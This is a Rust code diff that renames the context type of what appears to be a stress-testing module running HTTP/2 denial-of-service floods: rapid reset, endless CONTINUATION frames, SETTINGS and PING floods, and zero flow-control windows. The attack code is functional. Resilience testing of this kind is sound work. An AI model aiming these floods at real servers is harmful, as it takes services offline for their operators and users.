@@ -10,7 +10,7 @@ use tokio::{
     net::TcpStream,
 };
 
-use crate::trial::Ground;
+use crate::trial::AttackContext;
 
 const HEADERS: u8 = 1;
 const RST_STREAM: u8 = 3;
@@ -21,55 +21,56 @@ const CONTINUATION: u8 = 9;
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
 
-pub async fn floods(on: &Ground) {
-    on.again(32, async |lane| {
-        let mut stream = on.connect(lane).await?;
-        stream.write_all(&opening(65_535)).await?;
-        match lane % 5 {
-            0 => rapid_reset(on, stream).await,
-            1 => endless_head(on, stream).await,
-            2 => again(on, stream, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 1, 0])).await,
-            3 => again(on, stream, &frame(PING, 0, 0, b"12345678")).await,
-            // The flow-control windows stay closed, so no response can leave the server.
-            _ => closed_window(on, stream).await,
-        }
-    })
-    .await;
+pub async fn floods(context: &AttackContext) {
+    context
+        .again(32, async |lane| {
+            let mut stream = context.connect(lane).await?;
+            stream.write_all(&opening(65_535)).await?;
+            match lane % 5 {
+                0 => rapid_reset(context, stream).await,
+                1 => endless_head(context, stream).await,
+                2 => again(context, stream, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 1, 0])).await,
+                3 => again(context, stream, &frame(PING, 0, 0, b"12345678")).await,
+                // The flow-control windows stay closed, so no response can leave the server.
+                _ => closed_window(context, stream).await,
+            }
+        })
+        .await;
 }
 
-async fn rapid_reset(on: &Ground, mut stream: TcpStream) -> io::Result<()> {
+async fn rapid_reset(context: &AttackContext, mut stream: TcpStream) -> io::Result<()> {
     for batch in 0u32.. {
         let pair = |i: u32| {
             let id = 1 + 2 * (batch * 50 + i);
             [request(id, "/v1/channels/a?wait=30", None), frame(RST_STREAM, 0, id, &8u32.to_be_bytes())].concat()
         };
         send(&mut stream, &(0..50).flat_map(pair).collect::<Vec<_>>()).await?;
-        on.done(50);
+        context.done(50);
     }
     Ok(())
 }
 
 /// Sends CONTINUATION frames without END_HEADERS, so the header block never ends.
-async fn endless_head(on: &Ground, mut stream: TcpStream) -> io::Result<()> {
+async fn endless_head(context: &AttackContext, mut stream: TcpStream) -> io::Result<()> {
     stream.write_all(&frame(HEADERS, END_STREAM, 1, &head("/", None))).await?;
     let field = [&[0x00, 3][..], b"x-a", &[100], &[b'a'; 100]].concat();
-    again(on, stream, &frame(CONTINUATION, 0, 1, &field.repeat(100))).await
+    again(context, stream, &frame(CONTINUATION, 0, 1, &field.repeat(100))).await
 }
 
-async fn closed_window(on: &Ground, mut stream: TcpStream) -> io::Result<()> {
+async fn closed_window(context: &AttackContext, mut stream: TcpStream) -> io::Result<()> {
     stream.write_all(&frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0])).await?;
     for i in 0.. {
         send(&mut stream, &request(1 + 2 * i, "/metrics", None)).await?;
-        on.done(1);
+        context.done(1);
     }
     Ok(())
 }
 
-async fn again(on: &Ground, mut stream: TcpStream, bytes: &[u8]) -> io::Result<()> {
+async fn again(context: &AttackContext, mut stream: TcpStream, bytes: &[u8]) -> io::Result<()> {
     let many = bytes.repeat((8192 / bytes.len()).max(1));
     loop {
         send(&mut stream, &many).await?;
-        on.done((many.len() / bytes.len()) as u64);
+        context.done((many.len() / bytes.len()) as u64);
     }
 }
 
